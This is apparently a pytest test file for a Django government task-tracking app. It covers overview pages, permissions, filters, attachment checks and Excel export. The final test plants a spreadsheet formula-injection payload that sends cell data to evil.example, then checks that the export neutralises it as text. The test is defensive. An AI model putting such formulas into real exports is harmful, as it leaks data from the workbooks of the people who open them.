"""Task pages: the overview in colour with its budget, filters and Excel export; a task's page for the unit and
for the office; attachments refused with their reason while the typed text stays."""

from __future__ import annotations

import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from duties import services
from duties.models import ExtensionRequest, FollowUpTask, TaskAttachment, TaskStatus, TaskUpdate
from meetings.tests import factories as f

CODE = "miyun-town"


@pytest.fixture
def decision(staffed, users):
    _meeting, _minutes, (decision,) = f.approved_meeting(users, staffed)
    return decision


def test_overview_budget_with_hundreds_of_tasks(users, login, decision, django_assert_max_num_queries):
    f.bulk_tasks(decision, 400)
    client = login("office_director")
    url = reverse("duties:tasks", args=[CODE])
    # Built (each look a new query: nothing kept yet), with the queries that find when the clock next changes it.
    with django_assert_max_num_queries(22):
        page = client.get(url).content.decode()
    assert "共 400 项" in page and "按承办单位" in page and "按决定事项" in page
    for words in ("已逾期", "即将到期", "正常推进", "已办结", "待确认办结"):
        assert words in page, words
    with django_assert_max_num_queries(22):
        page = client.get(url, {"signal": "overdue", "page": 2}).content.decode()
    overdue = FollowUpTask.objects.filter(status=TaskStatus.OPEN, deadline__lt=timezone.localdate()).count()
    assert f"共 {overdue} 项" in page and "?signal=overdue&amp;page=" in page


def test_a_liaison_sees_only_the_units_tasks(users, login, decision):
    mine = f.task(users, decision, "fulian", title="妇联的事项")
    theirs = f.task(users, decision, "gonghui", title="工会的事项")
    page = login("liaison-fulian").get(reverse("duties:tasks", args=[CODE])).content.decode()
    assert mine.title in page and theirs.title not in page
    assert login("liaison-fulian").get(theirs.get_absolute_url()).status_code == 404


def test_filters_by_unit_and_decision(users, login, staffed, decision):
    f.task(users, decision, "fulian", title="妇联的事项")
    f.task(users, decision, "gonghui", title="工会的事项")
    client = login("office_staff")
    page = client.get(reverse("duties:tasks", args=[CODE])).content.decode()
    fulian = f.unit(staffed, "fulian")
    assert f'<a href="?unit={fulian.pk}">妇联</a>' in page  # the summary by unit links to the unit's tasks
    assert f'<a href="?decision={decision.pk}">{decision.title}' in page
    page = client.get(reverse("duties:tasks", args=[CODE]), {"unit": f.unit(staffed, "gonghui").pk}).content.decode()
    assert "工会的事项" in page and "妇联的事项" not in page
    page = client.get(reverse("duties:tasks", args=[CODE]), {"decision": decision.pk, "q": "妇联"}).content.decode()
    assert "妇联的事项" in page and "工会的事项" not in page


def test_excel_export_keeps_the_filters(users, login, decision, django_assert_max_num_queries):
    f.bulk_tasks(decision, 300)
    client = login("office_staff")
    with django_assert_max_num_queries(8):
        response = client.get(reverse("duties:tasks_export", args=[CODE]), {"status": "closed"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("序号", "督办事项", "承办单位")
    assert len(rows) == 1 + FollowUpTask.objects.filter(status="closed").count()
    assert {row[8] for row in rows[1:]} == {"已办结"} and {row[9] for row in rows[1:]} == {"已办结"}


def test_the_office_assigns_from_the_decision_page(staffed, users, login, decision):
    client = login("office_staff")
    page = client.get(decision.get_absolute_url()).content.decode()
    assert "交办督办事项" in page
    url = reverse("duties:task_new", args=[decision.pk])
    data = {
        "units": [f.unit(staffed, "fulian").pk, f.unit(staffed, "sifasuo").pk],
        "title": "落实走访",
        "deadline": "2000-01-01",
    }
    response = client.post(url, data)
    assert "办理期限不能早于今天。" in response.content.decode() and 'value="落实走访"' in response.content.decode()
    deadline = timezone.localdate() + datetime.timedelta(days=15)
    response = client.post(url, data | {"deadline": f"{deadline:%Y-%m-%d}"})
    assert response.status_code == 302
    assert set(FollowUpTask.objects.filter(decision=decision).values_list("unit__code", flat=True)) == {
        "fulian",
        "sifasuo",
    }
    assert login("liaison-fulian").get(url).status_code == 302


@pytest.fixture
def task(users, decision):
    return f.task(users, decision, "fulian")


def _step(obj, name: str) -> str:
    """The one route of a task's (or an extension request's) steps."""
    url_name = "duties:extension_step" if isinstance(obj, ExtensionRequest) else "duties:task_step"
    return reverse(url_name, args=[obj.pk, name])


def test_a_wrong_file_is_refused_and_the_progress_text_is_kept(users, login, task):
    client = login("liaison-fulian")
    response = client.post(
        _step(task, "report_progress"),
        {
            "report_progress-text": "已走访8户社区矫正对象家庭",
            "report_progress-files": [SimpleUploadedFile("走访照片.jpg", b"not really a picture")],
        },
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "文件“走访照片.jpg”的内容不是允许的类型" in page
    assert "已走访8户社区矫正对象家庭" in page
    assert not TaskUpdate.objects.filter(task=task).exists() and not TaskAttachment.objects.exists()


@override_settings(ATTACHMENT_MAX_BYTES=2048)
def test_a_file_too_large_is_refused_and_the_completion_text_is_kept(users, login, task):
    client = login("liaison-fulian")
    page = client.post(
        _step(task, "report_completion"),
        {
            "report_completion-text": "全部完成",
            "report_completion-files": [SimpleUploadedFile("报告.pdf", f.PDF + b" " * 4096)],
        },
    ).content.decode()
    assert "超过了 2 KB 的上限" in page and "全部完成" in page
    task.refresh_from_db()
    assert task.status == TaskStatus.OPEN


def test_progress_with_a_file_then_completion_then_the_office_closes(users, login, client, task):
    liaison = login("liaison-fulian")
    response = liaison.post(
        _step(task, "report_progress"),
        {"report_progress-text": "已开展走访", "report_progress-files": [f.pdf("走访记录.pdf")]},
    )
    assert response.status_code == 302
    attachment = TaskAttachment.objects.get()
    page = liaison.get(task.get_absolute_url()).content.decode()
    assert (
        "已开展走访" in page and "走访记录.pdf" in page and reverse("duties:attachment", args=[attachment.pk]) in page
    )
    download = liaison.get(reverse("duties:attachment", args=[attachment.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content) == f.PDF
    assert "/media/" not in page
    client.force_login(users["liaison-gonghui"])
    assert client.get(reverse("duties:attachment", args=[attachment.pk])).status_code == 404
    liaison = login("liaison-fulian")
    liaison.post(_step(task, "report_completion"), {"report_completion-text": "已全部完成"})
    office = login("office_director")
    page = office.get(task.get_absolute_url()).content.decode()
    assert "确认办结" in page and "提交进展" not in page
    office.post(_step(task, "close"), {"close-note": "核实无误"})
    task.refresh_from_db()
    assert task.status == TaskStatus.CLOSED


def test_extension_through_the_page(users, login, task):
    liaison = login("liaison-fulian")
    later = task.deadline + datetime.timedelta(days=20)
    liaison.post(
        _step(task, "request_extension"),
        {"request_extension-requested_deadline": f"{later:%Y-%m-%d}", "request_extension-reason": "等待排期"},
    )
    extension = task.extension_requests.get()
    office = login("office_staff")
    response = office.post(_step(extension, "refuse"), {"refuse-note": ""})
    assert "不同意延期的，请写明理由。" in response.content.decode()
    office.post(_step(extension, "grant"), {"grant-note": "同意"})
    task.refresh_from_db()
    assert task.deadline == later


def test_the_task_page_fits_the_liaisons_reading(users, login, task, django_assert_max_num_queries):
    services.task_progress_add(by=users["liaison-fulian"], task=task, text="进展一")
    client = login("head-fulian")
    with django_assert_max_num_queries(20):
        page = client.get(task.get_absolute_url()).content.decode()
    assert "由承办单位的联络员填报进展" in page and "进展一" in page and "变更记录" in page


def test_excel_export_writes_typed_progress_as_text(users, login, decision):
    from core.tests.test_exports import assert_no_live_formula

    task = f.task(users, decision, "fulian")
    services.task_progress_add(
        by=users["liaison-fulian"], task=task, text='=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
    )
    response = login("office_staff").get(reverse("duties:tasks_export", args=[CODE]))
    assert_no_live_formula(response.content)
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert any(row[10] == '=HYPERLINK("http://evil.example/?"&B2,"点击查看")' for row in rows)
    assert "filename*=UTF-8''%E7%9D%A3%E5%8A%9E" in response["Content-Disposition"]
